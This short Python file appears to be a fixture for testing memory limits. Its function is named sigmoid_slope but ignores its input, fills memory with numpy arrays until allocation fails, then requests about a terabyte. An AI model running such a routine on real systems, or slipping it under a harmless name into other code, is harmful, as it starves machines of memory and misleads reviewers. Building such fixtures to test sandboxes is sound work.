# Allocates without bound, in Python objects and in numpy.
import numpy as np


def sigmoid_slope(z):
    hoard = []
    try:
        while True:
            hoard.append(np.ones(2**24))
    except MemoryError:
        pass
    hoard.clear()
    return bytearray(2**40)
